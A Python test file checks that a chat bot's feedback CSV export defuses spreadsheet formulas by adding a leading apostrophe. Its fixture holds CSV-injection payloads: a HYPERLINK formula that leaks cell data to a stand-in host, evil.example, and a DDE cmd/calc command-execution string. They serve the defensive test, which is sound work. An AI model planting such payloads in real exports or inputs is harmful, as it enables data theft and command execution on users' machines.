"""/export's feedback CSV goes through the one CSV writer: a comment a spreadsheet would run
as a formula (``=``, ``+``, ``-``, ``@``) arrives defused, with a leading apostrophe."""

from __future__ import annotations

from bot.clock import ManualClock
from tests.conftest import HarnessFactory, brussels
from tests.feedback.test_feedback_e2e import ORGANISER, _export

COMMENTS = {
    1001: '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    1002: "+1+1",
    1003: "-2+3 cmd|' /C calc'!A0",
    1004: "@SUM(A1:A9)",
    1005: "a fine talk, = 5 stars",  # not at the start: kept as written
}


async def test_formula_comments_are_neutralised_in_the_export(
    make_bot: HarnessFactory, clock: ManualClock
) -> None:
    clock.set(brussels(16, 0))
    bot = await make_bot(ORGANISER_IDS=str(ORGANISER))
    for uid, comment in COMMENTS.items():
        person = bot.user(uid, f"U{uid}")
        await person.send("/session welcome")
        card = await person.next_message()
        await person.callback_answer(await person.press_data(card.message_id, "rt:welcome:4"))
        await person.send(comment)
        await person.wait_for(lambda m: "is saved" in (m.plain_text or ""))
    rows, _ = await _export(bot.user(ORGANISER, "Olga"))
    column = rows[0].index("comment")
    exported = sorted(r[column] for r in rows[1:])
    expected = sorted(("'" + c) if c[0] in "=+-@" else c for c in COMMENTS.values())
    assert exported == expected
